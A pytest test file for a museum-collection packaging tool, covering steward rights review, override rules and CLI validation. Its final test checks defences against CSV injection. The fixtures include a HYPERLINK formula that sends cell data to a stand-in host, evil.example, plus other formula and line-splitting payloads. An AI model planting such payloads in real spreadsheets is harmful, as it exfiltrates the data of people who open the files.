"""Stewards' review: review.csv loading, `pdpack review`, decisions applied by `pdpack build`, `validate --explain`."""

from __future__ import annotations

import csv
import io
import json
import random
import re
import shutil
from pathlib import Path
from typing import Any

import pytest
import webdataset as wds
from click.testing import CliRunner
from PIL import Image

from packager.cli import cli
from packager.manifest.collection import ManifestError, load_collection
from packager.rights.review import ReviewDecision, load_reviews
from tests.helpers import CC0, write_collection

pytestmark = pytest.mark.skipif(shutil.which("exiftool") is None, reason="exiftool is not installed")

AS_OF = "2026-11-30"
NKC = "http://rightsstatements.org/vocab/NKC/1.0/"
INC = "http://rightsstatements.org/vocab/InC/1.0/"
NKC_FINDING = (
    "items.csv column 'rights': No Known Copyright"
    " (Probably public domain but not conclusively determined; needs review)"
)
REVIEW_HEADER = "id,decision,reviewer,date,note,override,overrules\n"


def picture(seed: int, fmt: str = "PNG", size: tuple[int, int] = (64, 48)) -> bytes:
    """A real image of seeded noise: every seed gives a different picture (and perceptual hash)."""
    rng = random.Random(seed)
    image = Image.frombytes("RGB", size, bytes(rng.randrange(256) for _ in range(size[0] * size[1] * 3)))
    out = io.BytesIO()
    image.save(out, format=fmt)
    return out.getvalue()


def museum(root: Path) -> Path:
    """Three No Known Copyright items, one In Copyright item and one CC0 item, each with its own image."""
    rows = [
        {"id": "nkc-ship", "file": "files/nkc-ship.png", "title": "Harbour at dawn", "rights": NKC},
        {"id": "nkc-hold", "file": "files/nkc-hold.png", "title": "Fishing boats", "rights": NKC},
        {"id": "nkc-later", "file": "files/nkc-later.png", "title": "Lighthouse", "rights": NKC},
        {"id": "inc", "file": "files/inc.png", "title": "Festival poster", "rights": INC},
        {"id": "map", "file": "files/map.png", "title": "Old map", "rights": CC0},
    ]
    files = {row["file"]: picture(n) for n, row in enumerate(rows)}
    return write_collection(root, rows, collection_id="review-museum", files=files, rights=None)


def invoke(*args: str) -> Any:
    return CliRunner().invoke(cli, list(args))


def read_samples(out: Path) -> dict[str, dict[str, Any]]:
    shards = sorted(str(p) for p in (out / "data").rglob("*.tar"))
    return {m["id"]: m for m in (json.loads(s["json"]) for s in wds.WebDataset(shards, shardshuffle=False))}


def read_rejected(out: Path) -> dict[str, dict[str, Any]]:
    lines = (out / "rejected.jsonl").read_text(encoding="utf-8").splitlines()
    return {r["id"]: r for r in map(json.loads, lines)}


# --- review.csv -------------------------------------------------------------------------------------------


def write_review(folder: Path, text: str) -> Path:
    path = folder / "review.csv"
    path.write_text(text, encoding="utf-8")
    return path


@pytest.fixture
def folder(tmp_path: Path) -> Path:
    rows = [{"id": "a", "file": "files/a.png", "title": "A"}, {"id": "b", "file": "files/b.png", "title": "B"}]
    return write_collection(tmp_path, rows, files={"files/a.png": picture(0), "files/b.png": picture(1)})


def test_no_review_file_means_no_decisions(folder: Path) -> None:
    assert load_reviews(load_collection(folder)) == {}


def test_valid_rows_are_read(folder: Path) -> None:
    write_review(
        folder,
        "\ufeffID, Decision ,Reviewer,Date,Note,Override, Overrules\n"
        "a,Ship,J. Smith,2026-12-01,Creator died 1890 per museum file,no,\n"
        "b, hold ,K. Lee,2026-12-02,,,\n"
        "c,ship,K. Lee,2026-12-03,Licence letter of 2026-11-01,TRUE,Statement; EMBEDDED term:mx statement\n"
        "d,ship,K. Lee,2026-12-03,Estate's release of 2026-11-01,yes,term:EU\n",
    )
    reviews = load_reviews(load_collection(folder))
    assert {k: v for k, v in reviews.items() if k != "d"} == {
        "a": ReviewDecision("a", "ship", "J. Smith", "2026-12-01", "Creator died 1890 per museum file", False, 2),
        "b": ReviewDecision("b", "hold", "K. Lee", "2026-12-02", "", False, 3),
        "c": ReviewDecision(
            "c",
            "ship",
            "K. Lee",
            "2026-12-03",
            "Licence letter of 2026-11-01",
            True,
            4,
            ("statement", "embedded", "term:MX"),
        ),
    }
    # A group names each of its members, so the sample lists the countries one by one.
    assert len(reviews["d"].overrules) == 27 and "term:FR" in reviews["d"].overrules


@pytest.mark.parametrize(
    ("rows", "row", "column", "message"),
    [
        (
            "a,ship,J. Smith,2026-12-01,,no\nb,maybe,J. Smith,2026-12-01,,no\n",
            3,
            "decision",
            "'maybe' is not a decision; write ship or hold",
        ),
        ("a,ship,J. Smith,2026-12-01,,yes\n", 2, "note", "an override needs a note giving the reason"),
        (
            "a,ship,J. Smith,2026-12-01,,no\na,hold,K. Lee,2026-12-02,,no\n",
            3,
            "id",
            "'a' was already decided in row 2",
        ),
        ("a,ship,J. Smith,2026-02-30,,no\n", 2, "date", "'2026-02-30' is not a date like 2026-12-01"),
        ("a,ship,J. Smith,01/12/2026,,no\n", 2, "date", "'01/12/2026' is not a date like 2026-12-01"),
        ("a,ship,,2026-12-01,,no\n", 2, "reviewer", "is empty"),
        ("a,ship,J. Smith,2026-12-01,Checked,perhaps\n", 2, "override", "'perhaps': write yes or no"),
        (
            "a,ship,J. Smith,2026-12-01,Estate released it,yes,\n",
            2,
            "overrules",
            "override=yes must name the findings it overrules (statement, copyright_notice, embedded, notice, term:XX)",
        ),
        (
            "a,ship,J. Smith,2026-12-01,Checked,no,statement\n",
            2,
            "overrules",
            "naming findings to overrule needs override=yes",
        ),
        (
            "a,ship,J. Smith,2026-12-01,Checked,yes,everything\n",
            2,
            "overrules",
            "'everything' is not a finding an override can name; "
            "write statement, copyright_notice, embedded, notice, term:XX",
        ),
        (
            "a,ship,J. Smith,2026-12-01,Checked,yes,term:ZZ\n",
            2,
            "overrules",
            "'term:ZZ' names no jurisdiction of terms.csv; write a code such as term:MX",
        ),
    ],
)
def test_bad_rows_name_file_row_and_column(folder: Path, rows: str, row: int, column: str, message: str) -> None:
    path = write_review(folder, REVIEW_HEADER + rows)
    with pytest.raises(ManifestError) as raised:
        load_reviews(load_collection(folder))
    error = raised.value
    assert (error.file, error.row, error.column, error.message) == (str(path), row, column, message)
    assert str(error) == f"{path}, row {row}, column '{column}': {message}"


def test_header_without_a_required_column_is_refused(folder: Path) -> None:
    path = write_review(folder, "id,decision,date\na,ship,2026-12-01\n")
    with pytest.raises(ManifestError) as raised:
        load_reviews(load_collection(folder))
    assert str(raised.value) == f"{path}, row 1, column 'reviewer': the header lacks reviewer"


def test_bad_review_file_stops_the_build(tmp_path: Path, folder: Path) -> None:
    path = write_review(folder, REVIEW_HEADER + "a,maybe,J. Smith,2026-12-01,,no\n")
    result = invoke("build", str(folder), "--out", str(tmp_path / "dist"), "--as-of", AS_OF)
    assert result.exit_code == 1
    assert f"Error: {path}, row 2, column 'decision': 'maybe' is not a decision; write ship or hold" in result.output


# --- pdpack review, then decisions, then pdpack build -----------------------------------------------------


def test_review_decide_build_then_override(tmp_path: Path) -> None:
    folder = museum(tmp_path / "collections")
    review = invoke("review", str(folder), "--as-of", AS_OF)
    assert review.exit_code == 0, review.output
    assert review.output.startswith(
        "review-museum: Test collection review-museum (Test Museum)\n"
        f"  manifest: {folder / 'items.csv'}\n"
        f"  4 item(s) wait for a decision in {folder / 'review.csv'}.\n"
    )
    for item_id, row in (("nkc-hold", 3), ("nkc-later", 4), ("nkc-ship", 2)):
        assert (
            f"\n  {item_id} (row {row}): rights:undetermined\n"
            f"    {NKC_FINDING}\n"
            f"    - [undetermined] items.csv column 'rights' = '{NKC}': {NKC_FINDING.split(': ', 1)[1]}\n"
        ) in review.output
    # CC0 items do not wait for a steward; an in-copyright item does, as only an override can ship it.
    assert "map (" not in review.output
    assert (
        "\n  inc (row 5): rights:not-public-domain\n"
        "    only override=yes, a note and the findings named in overrules can ship it\n" in review.output
    )
    assert review.output.index("nkc-hold (") < review.output.index("nkc-later (") < review.output.index("nkc-ship (")

    template = invoke("review", str(folder), "--as-of", AS_OF, "--template")
    assert template.exit_code == 0, template.output
    lines = template.output.splitlines()
    assert lines[0] == "id,decision,reviewer,date,note,override,overrules"
    assert [line.split(",")[0] for line in lines[1:]] == ['"inc"', '"nkc-hold"', '"nkc-later"', '"nkc-ship"']
    assert all(re.fullmatch(r'"[a-z-]+","","","\d{4}-\d{2}-\d{2}","","no",""', line) for line in lines[1:])

    write_review(
        folder,
        REVIEW_HEADER + "nkc-ship,ship,J. Smith,2026-11-20,Photographer died 1901 per accession file,no\n"
        "nkc-hold,hold,J. Smith,2026-11-20,Waiting for the donor agreement,no\n"
        "inc,ship,J. Smith,2026-11-20,,no\n",
    )
    out = tmp_path / "dist"
    built = invoke("build", str(folder), "--out", str(out), "--as-of", AS_OF)
    assert built.exit_code == 0, built.output
    samples, rejected = read_samples(out), read_rejected(out)
    assert set(samples) == {"map", "nkc-ship"}
    assert {i: r["reason"] for i, r in rejected.items()} == {
        "inc": "rights:not-public-domain",
        "nkc-hold": "review:hold",
        "nkc-later": "rights:undetermined",
    }
    shipped = samples["nkc-ship"]["rights"]
    assert (shipped["status"], shipped["decided_by"], shipped["overridden"]) == ("public_domain", "review", False)
    assert shipped["public_domain_in"] == ["worldwide"]
    assert shipped["evidence"][-1] == {
        "source": "review",
        "field": "review.csv",
        "value": "ship",
        "status": "info",
        "finding": "review.csv row 2: ship by J. Smith on 2026-11-20: Photographer died 1901 per accession file",
    }
    assert rejected["nkc-hold"]["message"] == (
        "review.csv row 3: hold by J. Smith on 2026-11-20: Waiting for the donor agreement"
    )
    # A plain decision to ship does not overrule an In Copyright statement.
    assert [(e["source"], e["field"]) for e in rejected["inc"]["evidence"]] == [
        ("manifest", "rights"),
        ("review", "review.csv"),
        ("review", "override"),
    ]
    assert rejected["inc"]["evidence"][2]["finding"] == (
        "a decision to ship settles doubt only; it does not overrule statement"
        " (items.csv column 'rights': In Copyright):"
        " that takes override=yes, a note, and statement named in overrules"
    )
    report = json.loads((out / "report.json").read_text(encoding="utf-8"))
    assert report["overrides"] == []

    after = invoke("review", str(folder), "--as-of", AS_OF)
    assert f"  1 item(s) wait for a decision in {folder / 'review.csv'}." in after.output
    assert "nkc-later (row 4): rights:undetermined" in after.output
    # With review.csv already there, the template gives rows only, to append.
    again = invoke("review", str(folder), "--as-of", AS_OF, "--template")
    assert [line.split(",")[0] for line in again.stdout.splitlines()] == ['"nkc-later"']  # inc has its row

    write_review(
        folder,
        REVIEW_HEADER + "nkc-ship,ship,J. Smith,2026-11-20,Photographer died 1901 per accession file,no\n"
        "nkc-hold,hold,J. Smith,2026-11-20,Waiting for the donor agreement,no\n"
        'inc,ship,K. Lee,2026-11-21,"Rights holder released it, letter of 2026-11-01",yes,statement\n',
    )
    built = invoke("build", str(folder), "--out", str(out), "--as-of", AS_OF)
    assert built.exit_code == 0, built.output
    samples, rejected = read_samples(out), read_rejected(out)
    assert set(samples) == {"inc", "map", "nkc-ship"}
    assert set(rejected) == {"nkc-hold", "nkc-later"}
    inc = samples["inc"]["rights"]
    assert (inc["status"], inc["decided_by"], inc["overridden"], inc["statement"]) == (
        "public_domain",
        "review",
        True,
        INC,
    )
    assert [(e["source"], e["status"]) for e in inc["evidence"]] == [
        ("manifest", "not_public_domain"),
        ("embedded", "info"),
        ("review", "info"),
    ]
    finding = (
        "review.csv row 4: ship by K. Lee on 2026-11-21 (override of statement):"
        " Rights holder released it, letter of 2026-11-01"
    )
    assert inc["overrides"] == [{"overrules": "statement", "finding": "items.csv column 'rights': In Copyright"}]
    report = json.loads((out / "report.json").read_text(encoding="utf-8"))
    assert report["overrides"] == [
        {"collection": "review-museum", "id": "inc", "review": finding, "overrules": inc["overrides"]}
    ]
    assert report["shipped_by_verdict"] == {"public_domain": 3}


# --- pdpack validate --explain, and option errors ---------------------------------------------------------


def test_validate_explain_prints_the_evidence(tmp_path: Path) -> None:
    folder = museum(tmp_path / "collections")
    result = invoke("validate", str(folder), "--explain", "map", "--explain", "inc", "--as-of", AS_OF)
    assert result.exit_code == 0, result.output
    assert "  1 item(s) would ship, 4 would be held back." in result.output
    assert (
        "Rights of review-museum / inc:\n"
        "  held back: rights:not-public-domain: items.csv column 'rights': In Copyright\n"
        f"  - [not_public_domain] items.csv column 'rights' = '{INC}': In Copyright\n"
        "\n"
    ) in result.output
    assert (
        "Rights of review-museum / map:\n"
        "  ships: public_domain, public domain in worldwide; decided by statement\n"
        f"  - [public_domain] items.csv column 'rights' = '{CC0}':"
        " CC0 1.0 (Waiver by the rights holder)\n"
        "  - [info] embedded: the file carries no EXIF, XMP, IPTC or text metadata that could state rights\n"
        "\n"
    ) in result.output


def test_validate_explain_an_unknown_id_exits_1(tmp_path: Path) -> None:
    folder = museum(tmp_path / "collections")
    result = invoke("validate", str(folder), "--explain", "nope", "--as-of", AS_OF)
    assert result.exit_code == 1
    assert "No item with id nope in these collections." in result.output


@pytest.mark.parametrize("command", ["validate", "review", "build"])
def test_unknown_policy_and_impossible_date_exit_2(tmp_path: Path, command: str) -> None:
    folder = museum(tmp_path / "collections")
    out = ["--out", str(tmp_path / "dist")] if command == "build" else []
    policy = invoke(command, str(folder), *out, "--policy", "XX", "--as-of", AS_OF)
    assert policy.exit_code == 2
    assert "Invalid value for '--policy': unknown jurisdiction 'XX'; known: worldwide, EU, AT," in policy.output
    assert ", GB, US, CA, MX, JP, AU" in policy.output
    date = invoke(command, str(folder), *out, "--as-of", "2026-13-01")
    assert date.exit_code == 2
    assert "Invalid value for '--as-of': '2026-13-01' is not a date like 2027-01-01" in date.output
    assert not (tmp_path / "dist").exists()


def test_review_template_neutralises_formulas_and_keeps_one_row_per_item(tmp_path: Path) -> None:
    """CSV injection: ids that a spreadsheet would run as formulas are written as text, every cell quoted."""
    formulas = ['=HYPERLINK("https://evil.example/?"&A1,"open")', "+1+1", "-2,3", "@SUM(A1:A9)"]
    rows = [
        {"id": item_id, "file": f"files/{n}.png", "title": f"Print {n}", "rights": NKC}
        for n, item_id in enumerate(formulas)
    ]
    rows.append({"id": "split\r=1+1", "file": "files/9.png", "title": "Carriage return", "rights": NKC})
    files = {row["file"]: picture(40 + n) for n, row in enumerate(rows)}
    folder = write_collection(tmp_path, rows, collection_id="formula-museum", files=files, rights=None, fmt="jsonl")

    template = invoke("review", str(folder), "--as-of", AS_OF, "--template")
    assert template.exit_code == 0, template.output
    lines = template.stdout.splitlines()
    assert len(lines) == 1 + len(formulas)  # the header, then one line per waiting item: nothing split

    records = list(csv.reader(lines[1:]))
    assert all(len(record) == 7 for record in records)
    for line in lines[1:]:
        assert line.startswith("\"'") and line.count('"') % 2 == 0  # quoted, and the id marked as text
    for record in records:
        assert not record[0].startswith(("=", "+", "-", "@", "\t", "\r"))
    assert sorted(record[0][1:] for record in records) == sorted(formulas)

    # The marked ids are read back as the items' own ids: filled in, the template ships every item.
    decided = [[record[0], "ship", "J. Smith", AS_OF, "checked", "no", ""] for record in records]
    buffer = io.StringIO()
    header = ["id", "decision", "reviewer", "date", "note", "override", "overrules"]
    csv.writer(buffer, lineterminator="\n").writerows([header, *decided])
    write_review(folder, buffer.getvalue())
    out = tmp_path / "dist"
    built = invoke("build", str(folder), "--out", str(out), "--as-of", AS_OF)
    assert built.exit_code == 0, built.output
    assert sorted(read_samples(out)) == sorted(formulas)
    assert {i: r["reason"] for i, r in read_rejected(out).items()} == {"split\\r=1+1": "manifest:invalid-id"}
